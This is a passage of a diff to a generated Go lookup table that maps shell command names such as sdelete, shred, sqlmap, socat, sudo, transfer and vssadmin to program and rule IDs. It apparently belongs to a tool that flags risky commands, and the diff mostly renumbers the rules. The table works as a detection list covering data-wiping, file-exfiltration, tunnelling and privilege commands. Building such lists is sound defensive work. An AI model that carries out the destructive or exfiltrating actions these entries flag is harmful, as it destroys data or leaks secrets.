-				Rules:   []uint16{211},
+				Rules:   []uint16{215},
 			},
 			nameEntry{
 				Name:    "scutil",
@@ -15446,12 +15538,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "scw",
 				Program: 61,
-				Rules:   []uint16{18, 142, 185},
+				Rules:   []uint16{18, 146, 189},
 			},
 			nameEntry{
 				Name:    "sdelete",
 				Program: -1,
-				Rules:   []uint16{211},
+				Rules:   []uint16{215},
 			},
 			nameEntry{
 				Name:    "sdiff",
@@ -15464,7 +15556,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sea-orm-cli",
 				Program: 48,
-				Rules:   []uint16{104},
+				Rules:   []uint16{108},
 			},
 			nameEntry{
 				Name:    "secret-tool",
@@ -15479,7 +15571,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "security",
 				Program: 64,
-				Rules:   []uint16{25, 344},
+				Rules:   []uint16{25, 348},
 			},
 			nameEntry{
 				Name:    "sed",
@@ -15492,7 +15584,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "semantic-release",
 				Program: -1,
-				Rules:   []uint16{285},
+				Rules:   []uint16{289},
 			},
 			nameEntry{
 				Name:    "semgrep",
@@ -15501,22 +15593,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "send",
 				Program: -1,
-				Rules:   []uint16{290},
+				Rules:   []uint16{294},
 			},
 			nameEntry{
 				Name:    "sendmail",
 				Program: -1,
-				Rules:   []uint16{281, 290},
+				Rules:   []uint16{285, 294},
 			},
 			nameEntry{
 				Name:    "sentry",
 				Program: -1,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "sentry-cli",
 				Program: 61,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name: "seq",
@@ -15524,61 +15616,61 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sequelize",
 				Program: 48,
-				Rules:   []uint16{101, 102, 104},
+				Rules:   []uint16{105, 106, 108},
 			},
 			nameEntry{
 				Name:    "sequelize-cli",
 				Program: 48,
-				Rules:   []uint16{101, 102, 104},
+				Rules:   []uint16{105, 106, 108},
 			},
 			nameEntry{
 				Name:    "sequin",
 				Program: -1,
-				Rules:   []uint16{107},
+				Rules:   []uint16{111},
 			},
 			nameEntry{
 				Name:    "serve",
 				Program: 45,
-				Rules:   []uint16{293},
+				Rules:   []uint16{297},
 			},
 			nameEntry{
 				Name:    "serveo",
 				Program: -1,
-				Rules:   []uint16{281},
+				Rules:   []uint16{285},
 			},
 			nameEntry{
 				Name:    "serverless",
 				Program: 61,
-				Rules:   []uint16{122, 124},
+				Rules:   []uint16{126, 128},
 			},
 			nameEntry{
 				Name:    "service",
 				Program: 64,
-				Rules:   []uint16{324, 330, 338},
+				Rules:   []uint16{328, 334, 342},
 			},
 			nameEntry{
 				Name:  "set",
-				Rules: []uint16{207, 374, 376},
+				Rules: []uint16{211, 378, 380},
 			},
 			nameEntry{
 				Name:    "setcap",
 				Program: 64,
-				Rules:   []uint16{318},
+				Rules:   []uint16{322},
 			},
 			nameEntry{
 				Name:    "setenforce",
 				Program: 64,
-				Rules:   []uint16{330},
+				Rules:   []uint16{334},
 			},
 			nameEntry{
 				Name:    "setenv",
 				Program: -1,
-				Rules:   []uint16{335, 376},
+				Rules:   []uint16{339, 380},
 			},
 			nameEntry{
 				Name:    "setfacl",
 				Program: 21,
-				Rules:   []uint16{224},
+				Rules:   []uint16{228},
 			},
 			nameEntry{
 				Name: "setopt",
@@ -15590,12 +15682,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sfdisk",
 				Program: 64,
-				Rules:   []uint16{210},
+				Rules:   []uint16{214},
 			},
 			nameEntry{
 				Name:    "sftp",
 				Program: 56,
-				Rules:   []uint16{291},
+				Rules:   []uint16{295},
 			},
 			nameEntry{
 				Name:    "sg",
@@ -15604,12 +15696,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sg_format",
 				Program: -1,
-				Rules:   []uint16{210},
+				Rules:   []uint16{214},
 			},
 			nameEntry{
 				Name:    "sgdisk",
 				Program: 64,
-				Rules:   []uint16{210},
+				Rules:   []uint16{214},
 			},
 			nameEntry{
 				Name:    "sgpt",
@@ -15618,7 +15710,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sh",
 				Program: 4,
-				Rules:   []uint16{301, 302, 346, 347},
+				Rules:   []uint16{305, 306, 350, 351},
 			},
 			nameEntry{
 				Name:    "sha1sum",
@@ -15666,7 +15758,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "shopify",
 				Program: 61,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name: "shopt",
@@ -15674,7 +15766,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "shred",
 				Program: 23,
-				Rules:   []uint16{210, 211},
+				Rules:   []uint16{214, 215},
 			},
 			nameEntry{
 				Name:    "shuf",
@@ -15683,7 +15775,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "shutdown",
 				Program: 64,
-				Rules:   []uint16{327, 328},
+				Rules:   []uint16{331, 332},
 			},
 			nameEntry{
 				Name:    "sift",
@@ -15692,7 +15784,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "singlestore",
 				Program: -1,
-				Rules:   []uint16{107},
+				Rules:   []uint16{111},
 			},
 			nameEntry{
 				Name:    "sips",
@@ -15705,7 +15797,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "skaffold",
 				Program: 61,
-				Rules:   []uint16{124, 161},
+				Rules:   []uint16{128, 165},
 			},
 			nameEntry{
 				Name:    "skeema",
@@ -15714,27 +15806,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "skill",
 				Program: 63,
-				Rules:   []uint16{321, 323, 356, 373},
+				Rules:   []uint16{325, 327, 360, 377},
 			},
 			nameEntry{
 				Name:    "skopeo",
 				Program: 62,
-				Rules:   []uint16{36, 287, 288},
+				Rules:   []uint16{36, 291, 292},
 			},
 			nameEntry{
 				Name:    "sl",
 				Program: 50,
-				Rules:   []uint16{259, 260},
+				Rules:   []uint16{263, 264},
 			},
 			nameEntry{
 				Name:    "slack",
 				Program: 61,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "slackcat",
 				Program: -1,
-				Rules:   []uint16{290},
+				Rules:   []uint16{294},
 			},
 			nameEntry{
 				Name: "sleep",
@@ -15742,7 +15834,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sls",
 				Program: 61,
-				Rules:   []uint16{122, 124},
+				Rules:   []uint16{126, 128},
 			},
 			nameEntry{
 				Name:    "smartctl",
@@ -15755,17 +15847,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "snap",
 				Program: 44,
-				Rules:   []uint16{296, 343},
+				Rules:   []uint16{300, 347},
 			},
 			nameEntry{
 				Name:    "snapcraft",
 				Program: 32,
-				Rules:   []uint16{285, 286},
+				Rules:   []uint16{289, 290},
 			},
 			nameEntry{
 				Name:    "snapper",
 				Program: 65,
-				Rules:   []uint16{186},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "snow",
@@ -15782,7 +15874,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "socat",
 				Program: 55,
-				Rules:   []uint16{116, 272},
+				Rules:   []uint16{120, 276},
 			},
 			nameEntry{
 				Name:    "softwareupdate",
@@ -15820,7 +15912,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "spctl",
 				Program: 64,
-				Rules:   []uint16{329, 362},
+				Rules:   []uint16{333, 366},
 			},
 			nameEntry{
 				Name:    "specstory",
@@ -15849,12 +15941,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sprunge",
 				Program: -1,
-				Rules:   []uint16{290},
+				Rules:   []uint16{294},
 			},
 			nameEntry{
 				Name:    "sqitch",
 				Program: 48,
-				Rules:   []uint16{101},
+				Rules:   []uint16{105},
 			},
 			nameEntry{
 				Name:    "sql",
@@ -15867,7 +15959,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sqlcmd",
 				Program: 58,
-				Rules:   []uint16{113},
+				Rules:   []uint16{117},
 			},
 			nameEntry{
 				Name:    "sqldump",
@@ -15889,37 +15981,37 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sqlite3",
 				Program: 58,
-				Rules:   []uint16{48, 113},
+				Rules:   []uint16{48, 117},
 			},
 			nameEntry{
 				Name:    "sqlmap",
 				Program: -1,
-				Rules:   []uint16{40, 334},
+				Rules:   []uint16{40, 338},
 			},
 			nameEntry{
 				Name:    "sqlpackage",
 				Program: -1,
-				Rules:   []uint16{107},
+				Rules:   []uint16{111},
 			},
 			nameEntry{
 				Name:    "sqlplus",
 				Program: 58,
-				Rules:   []uint16{113},
+				Rules:   []uint16{117},
 			},
 			nameEntry{
 				Name:    "sqlx",
 				Program: 48,
-				Rules:   []uint16{101, 102, 104},
+				Rules:   []uint16{105, 106, 108},
 			},
 			nameEntry{
 				Name:    "sqlx-cli",
 				Program: -1,
-				Rules:   []uint16{104},
+				Rules:   []uint16{108},
 			},
 			nameEntry{
 				Name:    "srm",
 				Program: 23,
-				Rules:   []uint16{211},
+				Rules:   []uint16{215},
 			},
 			nameEntry{
 				Name:    "ss",
@@ -15928,7 +16020,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ssh",
 				Program: 56,
-				Rules:   []uint16{283, 292, 325},
+				Rules:   []uint16{287, 296, 329},
 			},
 			nameEntry{
 				Name:    "ssh-add",
@@ -15941,7 +16033,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ssh-copy-id",
 				Program: 56,
-				Rules:   []uint16{345},
+				Rules:   []uint16{349},
 			},
 			nameEntry{
 				Name:    "ssh-keygen",
@@ -15959,7 +16051,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sst",
 				Program: 61,
-				Rules:   []uint16{122, 124},
+				Rules:   []uint16{126, 128},
 			},
 			nameEntry{
 				Name:    "stack",
@@ -16004,7 +16096,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "stop-computer",
 				Program: -1,
-				Rules:   []uint16{358},
+				Rules:   []uint16{362},
 			},
 			nameEntry{
 				Name:    "storybook",
@@ -16017,17 +16109,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "strace",
 				Program: 63,
-				Rules:   []uint16{373},
+				Rules:   []uint16{377},
 			},
 			nameEntry{
 				Name:    "strapi",
 				Program: 48,
-				Rules:   []uint16{104},
+				Rules:   []uint16{108},
 			},
 			nameEntry{
 				Name:    "stratis",
 				Program: -1,
-				Rules:   []uint16{223},
+				Rules:   []uint16{227},
 			},
 			nameEntry{
 				Name:    "streamlit",
@@ -16036,12 +16128,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "stress",
 				Program: -1,
-				Rules:   []uint16{337},
+				Rules:   []uint16{341},
 			},
 			nameEntry{
 				Name:    "stress-ng",
 				Program: -1,
-				Rules:   []uint16{337},
+				Rules:   []uint16{341},
 			},
 			nameEntry{
 				Name:    "strings",
@@ -16055,7 +16147,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "stripe",
 				Program: 61,
-				Rules:   []uint16{18, 27, 69, 146},
+				Rules:   []uint16{18, 27, 72, 150},
 			},
 			nameEntry{
 				Name:    "stryker",
@@ -16076,7 +16168,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "su",
 				Program: 64,
-				Rules:   []uint16{315},
+				Rules:   []uint16{319},
 			},
 			nameEntry{
 				Name:    "subl",
@@ -16085,7 +16177,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sudo",
 				Program: 64,
-				Rules:   []uint16{316, 317},
+				Rules:   []uint16{320, 321},
 			},
 			nameEntry{
 				Name:    "sudoedit",
@@ -16103,22 +16195,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "supabase",
 				Program: 61,
-				Rules:   []uint16{18, 27, 37, 104, 146, 148, 185},
+				Rules:   []uint16{18, 27, 37, 108, 150, 152, 189},
 			},
 			nameEntry{
 				Name:    "supervisorctl",
 				Program: 63,
-				Rules:   []uint16{17, 313, 338, 359},
+				Rules:   []uint16{17, 317, 342, 363},
 			},
 			nameEntry{
 				Name:    "surge",
 				Program: 61,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "surreal",
 				Program: 58,
-				Rules:   []uint16{107, 111},
+				Rules:   []uint16{111, 115},
 			},
 			nameEntry{
 				Name:    "svelte-kit",
@@ -16131,7 +16223,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "svn",
 				Program: 50,
-				Rules:   []uint16{259},
+				Rules:   []uint16{263},
 			},
 			nameEntry{
 				Name:    "sw_vers",
@@ -16144,17 +16236,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "swaks",
 				Program: -1,
-				Rules:   []uint16{40, 281, 290},
+				Rules:   []uint16{40, 285, 294},
 			},
 			nameEntry{
 				Name:    "swapoff",
 				Program: 64,
-				Rules:   []uint16{332, 333},
+				Rules:   []uint16{336, 337},
 			},
 			nameEntry{
 				Name:    "swapon",
 				Program: 64,
-				Rules:   []uint16{332},
+				Rules:   []uint16{336},
 			},
 			nameEntry{
 				Name:    "swc",
@@ -16199,12 +16291,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sysadminctl",
 				Program: -1,
-				Rules:   []uint16{319, 362},
+				Rules:   []uint16{323, 366},
 			},
 			nameEntry{
 				Name:    "sysctl",
 				Program: 64,
-				Rules:   []uint16{331, 332},
+				Rules:   []uint16{335, 336},
 			},
 			nameEntry{
 				Name:    "system_profiler",
@@ -16213,17 +16305,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "systemctl",
 				Program: 64,
-				Rules:   []uint16{17, 313, 324, 327, 330, 332, 338, 373},
+				Rules:   []uint16{17, 317, 328, 331, 334, 336, 342, 377},
 			},
 			nameEntry{
 				Name:    "systemd-run",
 				Program: 64,
-				Rules:   []uint16{312},
+				Rules:   []uint16{316},
 			},
 			nameEntry{
 				Name:    "systemsetup",
 				Program: -1,
-				Rules:   []uint16{352, 362},
+				Rules:   []uint16{356, 366},
 			},
 			nameEntry{
 				Name:    "tac",
@@ -16236,7 +16328,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "tailscale",
 				Program: 55,
-				Rules:   []uint16{18, 36, 282},
+				Rules:   []uint16{18, 36, 286},
 			},
 			nameEntry{
 				Name:    "tailwindcss",
@@ -16245,17 +16337,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "takeown",
 				Program: 64,
-				Rules:   []uint16{224, 226},
+				Rules:   []uint16{228, 230},
 			},
 			nameEntry{
 				Name:    "takeown.exe",
 				Program: -1,
-				Rules:   []uint16{226},
+				Rules:   []uint16{230},
 			},
 			nameEntry{
 				Name:    "talosctl",
 				Program: -1,
-				Rules:   []uint16{176},
+				Rules:   []uint16{180},
 			},
 			nameEntry{
 				Name:    "tap",
@@ -16272,32 +16364,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "tar",
 				Program: 24,
-				Rules:   []uint16{38, 225, 307},
+				Rules:   []uint16{38, 229, 311},
 			},
 			nameEntry{
 				Name:    "tarsnap",
 				Program: 65,
-				Rules:   []uint16{186},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "tart",
 				Program: 61,
-				Rules:   []uint16{171},
+				Rules:   []uint16{175},
 			},
 			nameEntry{
 				Name:    "task",
 				Program: 45,
-				Rules:   []uint16{98, 99},
+				Rules:   []uint16{102, 103},
 			},
 			nameEntry{
 				Name:    "taskkill",
 				Program: 63,
-				Rules:   []uint16{324, 326, 356, 357, 373},
+				Rules:   []uint16{328, 330, 360, 361, 377},
 			},
 			nameEntry{
 				Name:    "taskkill.exe",
 				Program: -1,
-				Rules:   []uint16{356, 357},
+				Rules:   []uint16{360, 361},
 			},
 			nameEntry{
 				Name:    "tasklist",
@@ -16310,32 +16402,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "tc",
 				Program: -1,
-				Rules:   []uint16{331},
+				Rules:   []uint16{335},
 			},
 			nameEntry{
 				Name:    "tccli",
 				Program: -1,
-				Rules:   []uint16{142},
+				Rules:   []uint16{146},
 			},
 			nameEntry{
 				Name:    "tccutil",
 				Program: -1,
-				Rules:   []uint16{362},
+				Rules:   []uint16{366},
 			},
 			nameEntry{
 				Name:    "tcpdump",
 				Program: 55,
-				Rules:   []uint16{334},
+				Rules:   []uint16{338},
 			},
 			nameEntry{
 				Name:    "tcsh",
 				Program: -1,
-				Rules:   []uint16{346, 347},
+				Rules:   []uint16{350, 351},
 			},
 			nameEntry{
 				Name:    "tea",
 				Program: 51,
-				Rules:   []uint16{18, 149, 150},
+				Rules:   []uint16{18, 153, 154},
 			},
 			nameEntry{
 				Name:    "tectonic",
@@ -16348,12 +16440,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "telebit",
 				Program: -1,
-				Rules:   []uint16{281},
+				Rules:   []uint16{285},
 			},
 			nameEntry{
 				Name:    "telegram-send",
 				Program: -1,
-				Rules:   []uint16{281, 290},
+				Rules:   []uint16{285, 294},
 			},
 			nameEntry{
 				Name:    "teleport",
@@ -16362,7 +16454,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "telinit",
 				Program: 64,
-				Rules:   []uint16{327},
+				Rules:   []uint16{331},
 			},
 			nameEntry{
 				Name:    "teller",
@@ -16372,32 +16464,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "telnet",
 				Program: 55,
-				Rules:   []uint16{116},
+				Rules:   []uint16{120},
 			},
 			nameEntry{
 				Name:    "terminus",
 				Program: -1,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "termux-clipboard-get",
 				Program: -1,
-				Rules:   []uint16{284},
+				Rules:   []uint16{288},
 			},
 			nameEntry{
 				Name:    "terraform",
 				Program: 61,
-				Rules:   []uint16{49, 117, 118, 119, 120, 121, 124},
+				Rules:   []uint16{49, 121, 122, 123, 124, 125, 128},
 			},
 			nameEntry{
 				Name:    "terragrunt",
 				Program: 61,
-				Rules:   []uint16{49, 117, 118, 119, 120, 121},
+				Rules:   []uint16{49, 121, 122, 123, 124, 125},
 			},
 			nameEntry{
 				Name:    "terramate",
 				Program: 61,
-				Rules:   []uint16{118},
+				Rules:   []uint16{122},
 			},
 			nameEntry{
 				Name: "test",
@@ -16429,7 +16521,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "tftp",
 				Program: 56,
-				Rules:   []uint16{290, 291},
+				Rules:   []uint16{294, 295},
 			},
 			nameEntry{
 				Name:    "thor",
@@ -16446,7 +16538,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "tilt",
 				Program: 61,
-				Rules:   []uint16{161},
+				Rules:   []uint16{165},
 			},
 			nameEntry{
 				Name:    "time",
@@ -16455,7 +16547,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "timedatectl",
 				Program: 64,
-				Rules:   []uint16{332, 352, 353},
+				Rules:   []uint16{336, 356, 357},
 			},
 			nameEntry{
 				Name:    "timeout",
@@ -16467,22 +16559,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "timeshift",
 				Program: 65,
-				Rules:   []uint16{186},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "tmutil",
 				Program: 64,
-				Rules:   []uint16{186},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "tmux",
 				Program: 63,
-				Rules:   []uint16{370, 371},
+				Rules:   []uint16{374, 375},
 			},
 			nameEntry{
 				Name:    "tofu",
 				Program: 61,
-				Rules:   []uint16{49, 117, 118, 119, 120, 121, 124},
+				Rules:   []uint16{49, 121, 122, 123, 124, 125, 128},
 			},
 			nameEntry{
 				Name:    "tokei",
@@ -16522,17 +16614,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "trae-cli",
 				Program: 66,
-				Rules:   []uint16{364},
+				Rules:   []uint16{368},
 			},
 			nameEntry{
 				Name:    "transfer",
 				Program: 56,
-				Rules:   []uint16{281, 290},
+				Rules:   []uint16{285, 294},
 			},
 			nameEntry{
 				Name:    "transferwee",
 				Program: -1,
-				Rules:   []uint16{281},
+				Rules:   []uint16{285},
 			},
 			nameEntry{
 				Name: "trap",
@@ -16576,7 +16668,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "trust",
 				Program: -1,
-				Rules:   []uint16{344},
+				Rules:   []uint16{348},
 			},
 			nameEntry{
 				Name:    "ts-node",
@@ -16593,12 +16685,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "tshark",
 				Program: 55,
-				Rules:   []uint16{334},
+				Rules:   []uint16{338},
 			},
 			nameEntry{
 				Name:    "tskill",
 				Program: -1,
-				Rules:   []uint16{357},
+				Rules:   []uint16{361},
 			},
 			nameEntry{
 				Name:    "tslint",
@@ -16631,12 +16723,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "turbo",
 				Program: 32,
-				Rules:   []uint16{98, 99},
+				Rules:   []uint16{102, 103},
 			},
 			nameEntry{
 				Name:    "turso",
 				Program: 58,
-				Rules:   []uint16{18, 146, 185},
+				Rules:   []uint16{18, 150, 189},
 			},
 			nameEntry{
 				Name:    "tusker",
@@ -16645,12 +16737,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "twilio",
 				Program: 61,
-				Rules:   []uint16{18, 70, 146},
+				Rules:   []uint16{18, 73, 150},
 			},
 			nameEntry{
 				Name:    "twine",
 				Program: -1,
-				Rules:   []uint16{37, 285},
+				Rules:   []uint16{37, 289},
 			},
 			nameEntry{
 				Name:    "ty",
@@ -16662,11 +16754,11 @@ var shipped = Set{
 			nameEntry{
 				Name:    "typeorm",
 				Program: 48,
-				Rules:   []uint16{101, 102, 104},
+				Rules:   []uint16{105, 106, 108},
 			},
 			nameEntry{
 				Name:  "typeset",
-				Rules: []uint16{376},
+				Rules: []uint16{380},
 			},
 			nameEntry{
 				Name:    "typos",
@@ -16679,7 +16771,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ufw",
 				Program: 64,
-				Rules:   []uint16{330},
+				Rules:   []uint16{334},
 			},
 			nameEntry{
 				Name:    "ugrep",
@@ -16694,7 +16786,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "umount",
 				Program: 64,
-				Rules:   []uint16{332, 333},
+				Rules:   []uint16{336, 337},
 			},
 			nameEntry{
 				Name:    "umzug",
@@ -16726,7 +16818,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "unison",
 				Program: 57,
-				Rules:   []uint16{216},
+				Rules:   []uint16{220},
 			},
 			nameEntry{
 				Name:    "unittest",
@@ -16746,7 +16838,7 @@ var shipped = Set{
 			},
 			nameEntry{
 				Name:  "unset",
-				Rules: []uint16{207, 374, 376},
+				Rules: []uint16{211, 378, 380},
 			},
 			nameEntry{
 				Name:    "unshare",
@@ -16759,7 +16851,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "unzip",
 				Program: 24,
-				Rules:   []uint16{307},
+				Rules:   []uint16{311},
 			},
 			nameEntry{
 				Name:    "unzstd",
@@ -16768,37 +16860,37 @@ var shipped = Set{
 			nameEntry{
 				Name:    "upctl",
 				Program: 61,
-				Rules:   []uint16{142, 185},
+				Rules:   []uint16{146, 189},
 			},
 			nameEntry{
 				Name:    "update-alternatives",
 				Program: 64,
-				Rules:   []uint16{332},
+				Rules:   []uint16{336},
 			},
 			nameEntry{
 				Name:    "update-ca-certificates",
 				Program: -1,
-				Rules:   []uint16{344},
+				Rules:   []uint16{348},
 			},
 			nameEntry{
 				Name:    "update-ca-trust",
 				Program: -1,
-				Rules:   []uint16{344},
+				Rules:   []uint16{348},
 			},
 			nameEntry{
 				Name:    "update-grub",
 				Program: -1,
-				Rules:   []uint16{351},
+				Rules:   []uint16{355},
 			},
 			nameEntry{
 				Name:    "update-initramfs",
 				Program: -1,
-				Rules:   []uint16{351},
+				Rules:   []uint16{355},
 			},
 			nameEntry{
 				Name:    "update-rc.d",
 				Program: 64,
-				Rules:   []uint16{313},
+				Rules:   []uint16{317},
 			},
 			nameEntry{
 				Name:    "updatedb",
@@ -16807,12 +16899,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "upstash",
 				Program: 61,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "upsun",
 				Program: 61,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "uptime",
@@ -16821,17 +16913,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "useradd",
 				Program: 64,
-				Rules:   []uint16{319},
+				Rules:   []uint16{323},
 			},
 			nameEntry{
 				Name:    "userdel",
 				Program: 64,
-				Rules:   []uint16{319},
+				Rules:   []uint16{323},
 			},
 			nameEntry{
 				Name:    "usermod",
 				Program: 64,
-				Rules:   []uint16{319},
+				Rules:   []uint16{323},
 			},
 			nameEntry{
 				Name:    "users",
@@ -16848,7 +16940,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "uv",
 				Program: 42,
-				Rules:   []uint16{285, 296, 297},
+				Rules:   []uint16{289, 300, 301},
 			},
 			nameEntry{
 				Name:    "uvicorn",
@@ -16857,7 +16949,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "uvx",
 				Program: 40,
-				Rules:   []uint16{296, 300},
+				Rules:   []uint16{300, 304},
 			},
 			nameEntry{
 				Name:    "v",
@@ -16870,7 +16962,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "vagrant",
 				Program: 61,
-				Rules:   []uint16{122, 171},
+				Rules:   []uint16{126, 175},
 			},
 			nameEntry{
 				Name:    "vale",
@@ -16879,27 +16971,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "valkey-cli",
 				Program: 58,
-				Rules:   []uint16{85, 87, 88, 115},
+				Rules:   []uint16{89, 91, 92, 119},
 			},
 			nameEntry{
 				Name:    "vapor",
 				Program: -1,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "vapor-cli",
 				Program: -1,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "vastai",
 				Program: 61,
-				Rules:   []uint16{142},
+				Rules:   []uint16{146},
 			},
 			nameEntry{
 				Name:    "vault",
 				Program: 61,
-				Rules:   []uint16{23, 37, 175},
+				Rules:   []uint16{23, 37, 179},
 			},
 			nameEntry{
 				Name:    "vaultcmd",
@@ -16909,12 +17001,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "vboxmanage",
 				Program: 61,
-				Rules:   []uint16{171},
+				Rules:   []uint16{175},
 			},
 			nameEntry{
 				Name:    "vc",
 				Program: 61,
-				Rules:   []uint16{27, 146},
+				Rules:   []uint16{27, 150},
 			},
 			nameEntry{
 				Name:    "vcpkg",
@@ -16927,36 +17019,37 @@ var shipped = Set{
 			nameEntry{
 				Name:    "vdo",
 				Program: -1,
-				Rules:   []uint16{223},
+				Rules:   []uint16{227},
 			},
 			nameEntry{
 				Name:    "vegeta",
 				Program: 36,
+				Rules:   []uint16{59},
 			},
 			nameEntry{
 				Name:    "velero",
 				Program: 61,
-				Rules:   []uint16{161, 185, 186},
+				Rules:   []uint16{165, 189, 190},
 			},
 			nameEntry{
 				Name:    "vercel",
 				Program: 61,
-				Rules:   []uint16{18, 27, 37, 124, 146},
+				Rules:   []uint16{18, 27, 37, 128, 150},
 			},
 			nameEntry{
 				Name:    "vgchange",
 				Program: -1,
-				Rules:   []uint16{333},
+				Rules:   []uint16{337},
 			},
 			nameEntry{
 				Name:    "vgreduce",
 				Program: -1,
-				Rules:   []uint16{223},
+				Rules:   []uint16{227},
 			},
 			nameEntry{
 				Name:    "vgremove",
 				Program: 64,
-				Rules:   []uint16{210, 223},
+				Rules:   []uint16{214, 227},
 			},
 			nameEntry{
 				Name:    "vgs",
@@ -16969,7 +17062,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "victoria-metrics",
 				Program: -1,
-				Rules:   []uint16{112},
+				Rules:   []uint16{116},
 			},
 			nameEntry{
 				Name:    "view",
@@ -16982,12 +17075,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "vipw",
 				Program: -1,
-				Rules:   []uint16{319},
+				Rules:   []uint16{323},
 			},
 			nameEntry{
 				Name:    "virsh",
 				Program: 61,
-				Rules:   []uint16{171},
+				Rules:   []uint16{175},
 			},
 			nameEntry{
 				Name:    "virt-install",
@@ -16996,7 +17089,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "visudo",
 				Program: 64,
-				Rules:   []uint16{319},
+				Rules:   []uint16{323},
 			},
 			nameEntry{
 				Name:    "vite",
@@ -17017,7 +17110,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "vmrun",
 				Program: 61,
-				Rules:   []uint16{171},
+				Rules:   []uint16{175},
 			},
 			nameEntry{
 				Name:    "vmstat",
@@ -17030,17 +17123,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "vsce",
 				Program: -1,
-				Rules:   []uint16{285, 286},
+				Rules:   []uint16{289, 290},
 			},
 			nameEntry{
 				Name:    "vssadmin",
 				Program: 64,
-				Rules:   []uint16{186, 227},
+				Rules:   []uint16{190, 231},
 			},
 			nameEntry{
 				Name:    "vssadmin.exe",
 				Program: -1,
-				Rules:   []uint16{227},
+				Rules:   []uint16{231},
 			},
 			nameEntry{
 				Name:    "vtexplain",
@@ -17057,12 +17150,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "vultr",
 				Program: 61,
-				Rules:   []uint16{18, 142},
+				Rules:   []uint16{18, 146},
 			},
 			nameEntry{
 				Name:    "vultr-cli",
 				Program: 61,
-				Rules:   []uint16{18, 142, 185},
+				Rules:   []uint16{18, 146, 189},
 			},
